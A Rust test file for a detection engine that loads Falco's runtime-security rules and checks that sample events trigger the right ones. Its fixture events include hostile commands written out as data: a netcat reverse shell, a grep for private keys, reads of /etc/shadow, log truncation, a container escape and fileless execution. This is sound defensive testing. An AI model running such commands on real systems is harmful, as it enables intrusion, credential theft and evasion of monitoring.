//! Public rule files, unmodified, are loaded as far as today's sensor allows.

#[expect(unreachable_pub, reason = "it is public where the file belongs")]
#[path = "../../tests/src/corpora.rs"]
mod folder;
#[path = "corpus/sigma.rs"]
mod sigma;

use std::path::PathBuf;

use gravlens::detect::{self, LoadOptions, Loaded};

fn corpora(name: &str) -> PathBuf {
    folder::corpora(name).unwrap_or_else(|why| panic!("{why}"))
}

fn falco_rules() -> Loaded {
    let files = detect::read_paths(&[corpora("falco/falco_rules.yaml")])
        .expect("the rule file can be read");
    detect::load(&files, &LoadOptions::default())
}

#[test]
fn all_of_falcos_stable_rules_load() {
    let Loaded { set, report } = falco_rules();
    assert!(report.refused.is_empty(), "{}", report.to_text());
    assert_eq!(set.rules().len(), 25);
}

#[test]
fn every_field_name_of_falco_is_known() {
    let table =
        std::fs::read_to_string(corpora("falco_fields.tsv")).expect("the table can be read");
    let unknown: Vec<_> = table
        .lines()
        .skip(1)
        .filter_map(|line| line.split('\t').next())
        .filter(|name| !detect::catalogue::is_known(name))
        .collect();
    assert!(unknown.is_empty(), "unknown field names: {unknown:?}");
}

/// The event types and fields of reading are not there: contents of files and connections are not
/// the sensor's to read.
const NOT_FILLED: &[&str] = &["evt.buffer"];

#[test]
fn the_fields_that_falcos_rules_ask_for_are_filled() {
    let table =
        std::fs::read_to_string(corpora("falco_fields.tsv")).expect("the table can be read");
    let mut asked = 0;
    for line in table.lines().skip(1) {
        let columns: Vec<_> = line.split('\t').collect();
        let [name, _, _, in_conditions, _] = columns[..] else {
            panic!("not five columns: {line}");
        };
        let rules: u32 = in_conditions.parse().expect("a number of rules");
        if rules == 0 {
            continue;
        }
        asked += 1;
        let filled = detect::catalogue::field(name).is_some();
        assert_eq!(
            filled,
            !NOT_FILLED.contains(&name),
            "{name}, in {rules} rules"
        );
    }
    assert_eq!(asked, 71);
}

/// Loading is not detecting: rules as their authors wrote them fire on what they are for.
const SAMPLES: &str = "
- rule: Terminal shell in container
  expect: fires
  fields: {evt.type: execve, proc.name: bash, proc.pname: runc, proc.tty: 34816}
- rule: Terminal shell in container
  expect: quiet
  fields: {evt.type: execve, proc.name: bash, proc.pname: runc}
- rule: Read sensitive file untrusted
  expect: fires
  fields: {evt.type: openat, fd.name: /etc/shadow, proc.name: cat, container.image.repository: web}
- rule: Read sensitive file untrusted
  expect: quiet
  fields: {evt.type: openat, fd.name: /etc/shadow, proc.name: sshd, container.image.repository: web}
- rule: Run shell untrusted
  expect: fires
  fields: {evt.type: execve, proc.name: sh, proc.args: -c id, proc.aname: [php, nginx]}
- rule: Run shell untrusted
  expect: quiet
  fields: {evt.type: execve, proc.name: sh, proc.args: -c whoami, proc.aname: [php, nginx]}
- rule: Contact K8S API Server From Container
  expect: fires
  fields: {evt.type: connect, fd.sip: 10.96.0.1, fd.sport: 443, fd.sip.name: kubernetes.default.svc.cluster.local, proc.name: curl, container.image.repository: web}
- rule: Contact K8S API Server From Container
  expect: quiet
  fields: {evt.type: connect, fd.sip: 10.96.0.1, fd.sport: 443, fd.sip.name: api.example.com, proc.name: curl, container.image.repository: web}
- rule: Netcat Remote Code Execution in Container
  expect: fires
  fields: {evt.type: execve, proc.name: nc, proc.args: 10.0.0.1 4444 -e /bin/sh}
- rule: Search Private Keys or Passwords
  expect: fires
  fields: {evt.type: execve, proc.name: grep, proc.args: '-r \"begin rsa private\" /'}
- rule: Clear Log Activities
  expect: fires
  fields: {evt.type: openat, fd.name: /var/log/syslog, evt.arg.flags: O_WRONLY|O_TRUNC, proc.name: sh, container.image.repository: web}
- rule: Detect release_agent File Container Escapes
  expect: fires
  fields: {evt.type: openat, fd.name: /tmp/x/release_agent, evt.arg.flags: O_WRONLY, thread.cap_effective: CAP_SYS_ADMIN}
- rule: Execution from /dev/shm
  expect: fires
  fields: {evt.type: execve, proc.name: x, proc.exe: ./x, proc.cwd: /dev/shm/, container.image.repository: web}
- rule: Drop and execute new binary in container
  expect: fires
  fields: {evt.type: execve, proc.name: x, proc.is_exe_upper_layer: true, container.image.repository: web}
- rule: Disallowed SSH Connection Non Standard Port
  expect: fires
  fields: {evt.type: connect, evt.rawres: -115, fd.sip: 203.0.113.1, fd.sport: 443, proc.name: ssh, proc.exe: /usr/bin/ssh}
- rule: Disallowed SSH Connection Non Standard Port
  expect: quiet
  fields: {evt.type: connect, fd.sip: 10.0.0.1, fd.sport: 443, proc.name: ssh, proc.exe: /usr/bin/ssh}
- rule: Fileless execution via memfd_create
  expect: fires
  fields: {evt.type: execve, proc.name: x, proc.pname: sh, proc.exepath: 'memfd:x', proc.is_exe_from_memfd: true}
- rule: PTRACE attached to process
  expect: fires
  fields: {evt.type: ptrace, evt.arg.request: PTRACE_SEIZE, proc.name: x, proc.pname: sh}
- rule: PTRACE attached to process
  expect: quiet
  fields: {evt.type: ptrace, evt.arg.request: PTRACE_CONT, proc.name: x, proc.pname: sh}
- rule: PTRACE anti-debug attempt
  expect: fires
  fields: {evt.type: ptrace, evt.arg.request: PTRACE_TRACEME, proc.name: x, proc.pname: sh}
- rule: Packet socket created in container
  expect: fires
  fields: {evt.type: socket, evt.arg.domain: AF_PACKET, evt.rawres: 3, proc.name: x}
- rule: Redirect STDOUT/STDIN to Network Connection in Container
  expect: fires
  fields: {evt.type: dup2, evt.rawres: 1, fd.sip: 203.0.113.1, fd.sport: 4444, proc.name: sh, container.image.repository: web}
- rule: Redirect STDOUT/STDIN to Network Connection in Container
  expect: quiet
  fields: {evt.type: dup2, evt.rawres: 5, fd.sip: 203.0.113.1, fd.sport: 4444, proc.name: sh, container.image.repository: web}
- rule: Linux Kernel Module Injection Detected
  expect: fires
  fields: {evt.type: finit_module, proc.name: insmod, thread.cap_effective: CAP_SYS_MODULE, container.image.repository: web}
";

#[test]
fn falcos_rules_fire_on_what_they_are_for() {
    let file = detect::RuleFile {
        path: "samples".to_owned(),
        text: SAMPLES.to_owned(),
    };
    let (samples, failures) = detect::read_samples(&file);
    assert_eq!(failures, []);
    let report = detect::run_samples(&falco_rules().set, &samples);
    assert!(report.failures.is_empty(), "{}", report.to_text());
}
